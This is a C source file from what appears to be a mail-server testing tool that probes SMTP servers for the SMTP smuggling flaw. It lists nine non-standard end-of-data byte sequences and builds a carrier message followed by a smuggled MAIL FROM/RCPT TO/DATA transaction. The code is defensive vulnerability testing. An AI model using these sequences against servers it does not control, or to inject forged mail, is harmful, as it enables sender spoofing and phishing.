/* smuggling.c — the SMTP smuggling probe (see smuggling.h; docs/cli/smuggling.md).
 *
 * RFC 5321 §4.1.1.4 (only <CR><LF>.<CR><LF> ends the mail data) and §2.3.8
 * (a server MUST NOT treat a bare LF as a line end, "in particular, the
 * sequence <LF>.<LF> ... MUST NOT be treated as equivalent"). SMTP
 * smuggling (SEC Consult, 2023; CVE-2023-51764 Postfix, -51765 Sendmail,
 * -51766 Exim): when an outbound server passes a non-standard sequence
 * through and the inbound server ends the data there, whatever follows is
 * read as new commands — a second, spoofed message that rides on the first
 * one's authenticated session and SPF/DKIM standing.
 *
 * Why each variant (a server that treats some byte other than <CR><LF> as a
 * line end, or strips some byte, sees "<line end>.<line end>"):
 *   lf_dot_lf          bare LF line ends (classic UNIX leniency; Postfix < 3.9 default)
 *   cr_dot_cr          bare CR line ends (old Mac line ends; seen in appliances)
 *   lf_dot_crlf        LF ends the body line, a proper CRLF after the dot
 *   crlf_dot_lf        a proper CRLF before the dot, a bare LF after it
 *   crlf_dot_cr        a bare CR after the dot (servers that accept CR or LF)
 *   cr_dot_crlf        a bare CR before the dot
 *   cr_dot_lf, lf_dot_cr  mixed bare endings (any of CR, LF taken as a line end)
 *   crlf_nul_dot_crlf  a NUL before the dot: servers that drop NUL bytes first
 *
 * Detection. DATA is answered 354, then the carrier message is written up to
 * and including the sequence, and nothing more. A server that ended the data
 * there answers at once: a reply within early_wait_ms is the evidence
 * (ACCEPTED = vulnerable; a refusal that also closes the connection, like
 * Postfix's "521 bare <LF> received", is a safe REFUSED). With no reply the
 * rest is sent — a smuggled "MAIL FROM/RCPT TO/DATA" and a marker message,
 * then the real <CR><LF>.<CR><LF> — and exactly one final reply must come:
 * more replies mean the server did split the message (late) and read the
 * smuggled commands. Each variant uses its own session, one at a time, with
 * --delay between them; the whole probe is bounded by SMUGGLING_MAX_RUN_MS.
 * A safe server delivers one carrier message per variant to --to. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/* core */
#include "core/buf.h"
#include "core/clock.h"
#include "core/err.h"
#include "core/escape.h"
#include "core/xalloc.h"
/* dns, transport */
#include "dns/resolver.h"
#include "transport/conn.h"
#include "transport/tcp.h"
/* protocol */
#include "protocol/client.h"
#include "protocol/reply.h"
#include "protocol/transcript.h"
/* checks */
#include "checks/finding.h"
#include "checks/resolve.h"
#include "checks/security/relay_session.h"
#include "checks/security/smuggling.h"

typedef struct variant_def {
    const char *id;
    const char *label;
    const char *bytes;
    size_t n;
} variant_def;

static const variant_def variants[] = {
    {"lf_dot_lf", "<LF>.<LF>", "\n.\n", 3},
    {"cr_dot_cr", "<CR>.<CR>", "\r.\r", 3},
    {"lf_dot_crlf", "<LF>.<CR><LF>", "\n.\r\n", 4},
    {"crlf_dot_lf", "<CR><LF>.<LF>", "\r\n.\n", 4},
    {"crlf_dot_cr", "<CR><LF>.<CR>", "\r\n.\r", 4},
    {"cr_dot_crlf", "<CR>.<CR><LF>", "\r.\r\n", 4},
    {"cr_dot_lf", "<CR>.<LF>", "\r.\n", 3},
    {"lf_dot_cr", "<LF>.<CR>", "\n.\r", 3},
    {"crlf_nul_dot_crlf", "<CR><LF><NUL>.<CR><LF>", "\r\n\0.\r\n", 6},
};

enum { N_VARIANTS = sizeof variants / sizeof variants[0] };

size_t smuggling_variant_count(void)
{
    return N_VARIANTS;
}

const char *smuggling_variant_id(size_t i)
{
    return i < N_VARIANTS ? variants[i].id : NULL;
}

const char *smuggling_variant_label(size_t i)
{
    return i < N_VARIANTS ? variants[i].label : NULL;
}

const char *smuggling_variant_bytes(size_t i, size_t *n)
{
    *n = i < N_VARIANTS ? variants[i].n : 0;
    return i < N_VARIANTS ? variants[i].bytes : NULL;
}

/* ---------------------------------------------------------------- replies */

typedef enum early_kind {
    EARLY_NONE,
    EARLY_REPLY,
    EARLY_CLOSED,
    EARLY_PARTIAL,
    EARLY_FAILED
} early_kind;

/* Wait until wait_deadline for the server to start talking without breaking
 * the session when it does not (client_read_reply would): EARLY_NONE when
 * nothing came. Once bytes arrive the whole reply gets reply_ms. Lines are
 * recorded in the transcript. *out: the reply (EARLY_REPLY); *text: what
 * came otherwise (allocated, escaped; may be NULL). */
static early_kind read_early(smtp_client *cl, transcript *t, int64_t wait_deadline, int64_t reply_ms,
                        smtp_reply **out, char **text)
{
    *out = NULL;
    *text = NULL;
    conn *c = client_conn(cl);
    err e;
    err_clear(&e);
    if (conn_pending(c) == 0 && conn_wait(c, 0, wait_deadline, &e) < 0)
        return EARLY_NONE;
    int64_t deadline = clock_deadline_in(reply_ms);
    reply_parser p;
    reply_parser_init(&p);
    early_kind res = EARLY_FAILED;
    for (int lines = 0; lines < REPLY_MAX_LINES; lines++) {
        const char *line = NULL;
        size_t len = 0;
        int bare = 0;
        err_clear(&e);
        if (conn_read_line(c, REPLY_MAX_LINE, deadline, &line, &len, &bare, &e) < 0) {
            if (line && len > 0) {
                transcript_add(t, TR_RECV, line, len);
                *text = escape_display(line, len);
                res = EARLY_PARTIAL;
            } else if (lines == 0) {
                res = e.cls == ERRC_CLOSED ? EARLY_CLOSED : EARLY_NONE;
            } else {
                *text = xasprintf("%s", e.msg);
                res = EARLY_PARTIAL;
            }
            if (res != EARLY_NONE)
                transcript_addf(t, TR_INFO, "%s", e.msg);
            break;
        }
        transcript_add(t, TR_RECV, line, len);
        int r = reply_parser_feed(&p, line, len, &e);
        if (r < 0) {
            *text = escape_display(line, len);
            res = EARLY_PARTIAL;
            break;
        }
        if (r == REPLY_DONE) {
            *out = reply_parser_take(&p);
            res = *out ? EARLY_REPLY : EARLY_FAILED;
            break;
        }
    }
    reply_parser_reset(&p);
    return res;
}

/* Best-effort QUIT after the session left the state machine's rules. */
static void quit_raw(smtp_client *cl, transcript *t)
{
    err e;
    err_clear(&e);
    transcript_add(t, TR_SEND, "QUIT", 4);
    if (conn_write(client_conn(cl), "QUIT\r\n", 6, clock_deadline_in(2000), &e) < 0)
        return;
    smtp_reply *r = NULL;
    char *text = NULL;
    /* Replies to the smuggled bytes may come first; read a few. */
    for (int i = 0; i < 4; i++) {
        early_kind x = read_early(cl, t, clock_deadline_in(1000), 1000, &r, &text);
        bool done = x != EARLY_REPLY || r->code == 221;
        reply_free(r);
        free(text);
        r = NULL;
        text = NULL;
        if (done)
            break;
    }
}

/* "250 2.0.0 Ok: queued as X" (first line; escaped already). */
static char *reply_line(const smtp_reply *r)
{
    return xasprintf("%d %s", r->code, r->n_lines ? r->lines[0] : "");
}

/* ---------------------------------------------------------------- messages */

static char *rfc5322_date(void)
{
    time_t now = time(NULL);
    struct tm tm;
    char d[64];
    if (!gmtime_r(&now, &tm) || strftime(d, sizeof d, "%a, %d %b %Y %H:%M:%S +0000", &tm) == 0)
        return xstrdup("Thu, 01 Jan 1970 00:00:00 +0000");
    return xstrdup(d);
}

/* The carrier, up to and including the sequence. */
static char *carrier(const smuggling_opts *o, const smuggling_outcome *out, const variant_def *v,
                     size_t *len)
{
    char *date = rfc5322_date();
    buf b;
    buf_init(&b, 64 * 1024);
    int rc = buf_appendf(&b,
                         "From: <%s>\r\nTo: <%s>\r\nDate: %s\r\n"
                         "Subject: smtpscope smuggling probe %s (%s) carrier\r\n"
                         "Message-ID: <%s.%s@smtpscope.invalid>\r\n\r\n"
                         "This is the carrier message of smtpscope's SMTP smuggling probe\r\n"
                         "(variant %s). If it ends with a smuggled MAIL FROM, RCPT TO and\r\n"
                         "DATA as text, the server did not end the message at the sequence.\r\n"
                         "sequence follows",
                         o->from, o->to, date ? date : "", v->id, out->marker, out->marker,
                         v->id, v->id);
    free(date);
    if (rc < 0 || buf_append(&b, v->bytes, v->n) < 0) {
        buf_free(&b);
        return NULL;
    }
    *len = b.len;
    return buf_steal(&b);
}

/* After the sequence: the smuggled transaction (its own end of data is the
 * real one client_data_send adds). */
static char *smuggled(const smuggling_opts *o, const smuggling_outcome *out,
                      const variant_def *v)
{
    return xasprintf("MAIL FROM:<%s>\r\nRCPT TO:<%s>\r\nDATA\r\n"
                     "From: <%s>\r\nTo: <%s>\r\n"
                     "Subject: SMTPSCOPE-SMUGGLED %s %s\r\n\r\n"
                     "If this arrived as a message of its own, the server ended the carrier\r\n"
                     "at %s and is vulnerable to SMTP smuggling.\r\n",
                     o->from, o->to, o->from, o->to, v->id, out->marker, v->label);
}

/* ---------------------------------------------------------------- one variant */

typedef struct smug_ctx {
    const smuggling_opts *o;
    smuggling_outcome *out;
    relay_session_opts so;
    const tcp_addr *addrs;
    size_t n_addrs;
    int64_t early_ms;
} smug_ctx;

static void set_verdict(smuggling_variant *sv, probe_verdict v, char *evidence)
{
    sv->verdict = v;
    free(sv->evidence);
    sv->evidence = evidence;
}

/* The reply to an envelope command: 0 when 2xx, else the variant is ERROR. */
static int envelope(smug_ctx *x, relay_session *s, smuggling_variant *sv, const char *line,
                    const char *what)
{
    smtp_reply *rep = NULL;
    err e;
    err_clear(&e);
    if (client_command(s->cl, line, clock_deadline_in(x->so.timeout_ms), &rep, &e) < 0) {
        set_verdict(sv, PROBE_ERROR, xasprintf("%s failed: %s", what, e.msg));
        reply_free(rep);
        return -1;
    }
    if (!reply_ok(rep)) {
        set_verdict(sv, PROBE_ERROR, xasprintf("%s refused: %d %s", what, rep->code,
                                               rep->n_lines ? rep->lines[0] : ""));
        reply_free(rep);
        return -1;
    }
    reply_free(rep);
    return 0;
}

/* An early reply arrived: judge it. */
static void judge_early(smug_ctx *x, relay_session *s, smuggling_variant *sv,
                        const variant_def *v, smtp_reply *rep)
{
    char *rl = reply_line(rep);
    if (reply_ok(rep)) {
        x->out->n_delivered++; /* the carrier, cut at the sequence */
        set_verdict(sv, PROBE_ACCEPTED,
                    xasprintf("%s: answered right after %s, before the real end of data",
                              rl ? rl : "?", v->label));
    } else {
        smtp_reply *more = NULL;
        char *text = NULL;
        early_kind y = read_early(s->cl, x->out->transcript, clock_deadline_in(x->early_ms),
                             x->so.timeout_ms, &more, &text);
        if (y == EARLY_CLOSED)
            set_verdict(sv, PROBE_REFUSED,
                        xasprintf("%s: the server rejected %s and closed the connection",
                                  rl ? rl : "?", v->label));
        else
            set_verdict(sv, PROBE_ACCEPTED,
                        xasprintf("%s: answered right after %s and kept the session open, so "
                                  "the bytes that follow would be read as commands",
                                  rl ? rl : "?", v->label));
        reply_free(more);
        free(text);
    }
    free(rl);
}

static void run_variant(smug_ctx *x, const variant_def *v, smuggling_variant *sv)
{
    transcript *t = x->out->transcript;
    relay_session s;
    err e;
    err_clear(&e);
    if (relay_session_open(&x->so, x->addrs, x->n_addrs, t, &s, &e) < 0) {
        set_verdict(sv, PROBE_ERROR, xasprintf("no session: %s", e.msg));
        return;
    }
    char *mail = xasprintf("MAIL FROM:<%s>", x->o->from);
    char *rcpt = xasprintf("RCPT TO:<%s>", x->o->to);
    char *head = NULL, *rest = NULL;
    size_t head_len = 0;
    if (!mail || !rcpt) {
        set_verdict(sv, PROBE_ERROR, xstrdup("out of memory"));
        goto out;
    }
    if (envelope(x, &s, sv, mail, "MAIL FROM") < 0 || envelope(x, &s, sv, rcpt, "RCPT TO") < 0)
        goto out;
    /* DATA through the pipeline call: it leaves the session in CS_DATA on
     * 354, so the body can be written raw and the rest sent normally. */
    const char *data[] = {"DATA"};
    smtp_reply *dr[1] = {NULL};
    size_t nr = 0;
    if (client_pipeline(s.cl, data, 1, clock_deadline_in(x->so.timeout_ms), dr, &nr, &e) < 0 ||
        nr != 1 || dr[0]->code != 354) {
        set_verdict(sv, PROBE_ERROR,
                    nr == 1 ? xasprintf("DATA refused: %d %s", dr[0]->code,
                                        dr[0]->n_lines ? dr[0]->lines[0] : "")
                            : xasprintf("DATA failed: %s", e.msg));
        for (size_t i = 0; i < nr; i++)
            reply_free(dr[i]);
        goto out;
    }
    reply_free(dr[0]);

    head = carrier(x->o, x->out, v, &head_len);
    rest = smuggled(x->o, x->out, v);
    if (!head || !rest) {
        set_verdict(sv, PROBE_ERROR, xstrdup("out of memory"));
        goto out;
    }
    /* The transcript shows the last body line with the sequence, escaped. */
    const char *tail = head + head_len - v->n - strlen("sequence follows");
    transcript_addf(t, TR_SEND, "<carrier message: %zu bytes, ending with:>", head_len);
    transcript_add(t, TR_SEND, tail, (size_t)(head + head_len - tail));
    if (conn_write(client_conn(s.cl), head, head_len, clock_deadline_in(x->so.timeout_ms), &e) <
        0) {
        set_verdict(sv, PROBE_ERROR, xasprintf("writing the message failed: %s", e.msg));
        goto out;
    }
    transcript_addf(t, TR_INFO, "waiting up to %lld ms for a reply after %s",
                    (long long)x->early_ms, v->label);
    smtp_reply *rep = NULL;
    char *text = NULL;
    early_kind r = read_early(s.cl, t, clock_deadline_in(x->early_ms), x->so.timeout_ms, &rep, &text);
    switch (r) {
    case EARLY_REPLY:
        judge_early(x, &s, sv, v, rep);
        reply_free(rep);
        quit_raw(s.cl, t);
        goto out;
    case EARLY_CLOSED:
        set_verdict(sv, PROBE_REFUSED,
                    xasprintf("the server closed the connection right after %s without a reply",
                              v->label));
        goto out;
    case EARLY_PARTIAL:
    case EARLY_FAILED:
        set_verdict(sv, PROBE_ERROR,
                    xasprintf("the server sent something that is not a reply right after %s: "
                              "%s",
                              v->label, text ? text : "?"));
        free(text);
        goto out;
    case EARLY_NONE: break;
    }
    transcript_addf(t, TR_INFO, "no reply: sending the smuggled part and the real end of data");
    smtp_reply **finals = NULL;
    size_t nf = 0;
    err_clear(&e);
    if (client_data_send(s.cl, rest, strlen(rest), clock_deadline_in(x->so.timeout_ms), &finals,
                         &nf, &e) < 0 || nf == 0) {
        /* A reply that arrived between the wait and the rest is a late
         * early reply: client_data_send refuses it as extra (ERRC_PROTOCOL). */
        bool late = e.cls == ERRC_PROTOCOL && nf == 0;
        set_verdict(sv, late ? PROBE_ACCEPTED : PROBE_ERROR,
                    late ? xasprintf("the server answered after %s (later than %lld ms), before "
                                     "the real end of data",
                                     v->label, (long long)x->early_ms)
                         : xasprintf("sending the rest failed: %s", e.msg));
        client_replies_free(finals, nf);
        goto out;
    }
    char *fl = reply_line(finals[0]);
    if (reply_ok(finals[0]))
        x->out->n_delivered++;
    /* Exactly one reply belongs to one message. */
    smtp_reply *extra = NULL;
    early_kind y = read_early(s.cl, t, clock_deadline_in(x->early_ms < 1000 ? x->early_ms : 1000),
                         x->so.timeout_ms, &extra, &text);
    if (y == EARLY_REPLY) {
        char *xl = reply_line(extra);
        set_verdict(sv, PROBE_ACCEPTED,
                    xasprintf("%s, then %s: more replies than one message gets, so the server "
                              "ended the carrier at %s and ran the smuggled commands",
                              fl ? fl : "?", xl ? xl : "?", v->label));
        free(xl);
        quit_raw(s.cl, t);
        client_free(s.cl);
        s.cl = NULL;
    } else {
        set_verdict(sv, PROBE_REFUSED,
                    xasprintf("%s only after the real <CR><LF>.<CR><LF>: %s was read as data",
                              fl ? fl : "?", v->label));
    }
    reply_free(extra);
    free(text);
    free(fl);
    client_replies_free(finals, nf);
out:
    free(mail);
    free(rcpt);
    free(head);
    free(rest);
    relay_session_close(&s, x->so.timeout_ms);
}

/* ---------------------------------------------------------------- the probe */

static void pause_ms(int64_t ms)
{
    if (ms <= 0)
        return;
    struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (long)(ms % 1000) * 1000000L};
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
        ;
}

static void note(smuggling_outcome *out, char *s)
{
    if (s && xarray_push((void ***)&out->notes, &out->n_notes, s) < 0)
        free(s);
}

static int judge(smuggling_outcome *out)
{
    size_t bad = 0, errs = 0;
    char errids[512] = "";
    int rc = 0;
    for (size_t i = 0; i < out->n_variants; i++) {
        const smuggling_variant *v = &out->variants[i];
        if (v->verdict == PROBE_ACCEPTED) {
            bad++;
            rc |= finding_add(&out->findings, "smuggling.vulnerable", STAGE_SMUGGLING, NULL,
                              "%s (%s) ended the message data: %s", v->sequence, v->id,
                              v->evidence ? v->evidence : "");
        } else if (v->verdict != PROBE_REFUSED) {
            size_t l = strlen(errids);
            snprintf(errids + l, sizeof errids - l, "%s%s", errs ? ", " : "", v->id);
            errs++;
        }
    }
    out->n_vulnerable = bad;
    if (errs) {
        const smuggling_variant *first = NULL;
        for (size_t i = 0; i < out->n_variants && !first; i++)
            if (out->variants[i].verdict == PROBE_ERROR || out->variants[i].verdict == PROBE_NOT_RUN)
                first = &out->variants[i];
        rc |= finding_add(&out->findings, "smuggling.inconclusive", STAGE_SMUGGLING, NULL,
                          "%zu of %zu variants could not be tested (%s)%s%s", errs,
                          out->n_variants, errids, first && first->evidence ? ": " : "",
                          first && first->evidence ? first->evidence : "");
    }
    if (!bad && !errs)
        rc |= finding_add(&out->findings, "smuggling.safe", STAGE_SMUGGLING, NULL,
                          "none of the %zu non-standard sequences ended the message data",
                          out->n_variants);
    return rc ? -1 : 0;
}

int smuggling_run(const smuggling_opts *o, dns_resolver *resolver, smuggling_outcome *out)
{
    memset(out, 0, sizeof *out);
    int64_t t0 = clock_now_ms();
    out->host = xstrdup(o->host);
    out->port = o->port;
    out->transcript = transcript_new(t0);
    out->marker = xasprintf("smtpscope-smuggling-%llx%04x", (unsigned long long)clock_wall_s(),
                            (unsigned)getpid() & 0xffff);
    out->variants = calloc(N_VARIANTS, sizeof *out->variants);
    if (!out->host || !out->transcript || !out->marker || !out->variants)
        return -1;
    out->n_variants = N_VARIANTS;
    for (size_t i = 0; i < N_VARIANTS; i++) {
        out->variants[i].id = variants[i].id;
        out->variants[i].sequence = variants[i].label;
    }
    int64_t timeout = o->timeout_ms > 0 ? o->timeout_ms : 10000;
    int64_t early = o->early_wait_ms > 0 ? o->early_wait_ms : SMUGGLING_EARLY_WAIT_MS;
    smug_ctx x = {
        .o = o,
        .out = out,
        .early_ms = early < timeout ? early : timeout,
        .so = {.port = o->port,
               .tls = o->tls,
               .servername = o->servername ? o->servername : o->host,
               .ca_file = o->ca_file,
               .helo = o->helo,
               .auth_user = o->auth_user,
               .auth_pass = o->auth_pass,
               .allow_plaintext_auth = o->allow_plaintext_auth,
               .timeout_ms = timeout},
    };
    int64_t end = t0 + SMUGGLING_MAX_RUN_MS;
    resolved_target t = {0};
    err e;
    err_clear(&e);
    const char *skip = NULL;
    char why[300] = "";
    if (!o->from || !o->to || !*o->to) {
        skip = "--from and --to are required";
    } else if (resolve_target(o->host, o->family, true, resolver, timeout, &t, &e) < 0) {
        snprintf(why, sizeof why, "resolving %s failed: %s", o->host, e.msg);
        skip = why;
    } else {
        x.addrs = t.addrs;
        x.n_addrs = t.n;
        if (t.mx_host)
            note(out, xasprintf("%s has no address; probed its MX host %s", o->host,
                                t.mx_host));
    }
    for (size_t i = 0; i < N_VARIANTS; i++) {
        smuggling_variant *sv = &out->variants[i];
        if (skip) {
            set_verdict(sv, PROBE_ERROR, xasprintf("not run: %s", skip));
            continue;
        }
        if (clock_now_ms() >= end) {
            set_verdict(sv, PROBE_ERROR, xstrdup("not run: the probe's time limit passed"));
            continue;
        }
        if (i > 0 && o->delay_ms > 0) {
            int64_t left = end - clock_now_ms();
            pause_ms(o->delay_ms < left ? o->delay_ms : left);
        }
        transcript_addf(out->transcript, TR_INFO, "variant %s %s", sv->id, sv->sequence);
        run_variant(&x, &variants[i], sv);
    }
    resolved_target_free(&t);
    if (!skip)
        note(out, xasprintf("the probe messages went to %s; their Subject carries %s "
                            "(%zu accepted by the server)",
                            o->to, out->marker, out->n_delivered));
    out->total_ms = clock_now_ms() - t0;
    return judge(out);
}

void smuggling_outcome_free(smuggling_outcome *out)
{
    if (!out)
        return;
    free(out->host);
    for (size_t i = 0; i < out->n_variants; i++)
        free(out->variants[i].evidence);
    free(out->variants);
    finding_list_free(&out->findings);
    for (size_t i = 0; i < out->n_notes; i++)
        free(out->notes[i]);
    free(out->notes);
    transcript_free(out->transcript);
    free(out->marker);
    memset(out, 0, sizeof *out);
}
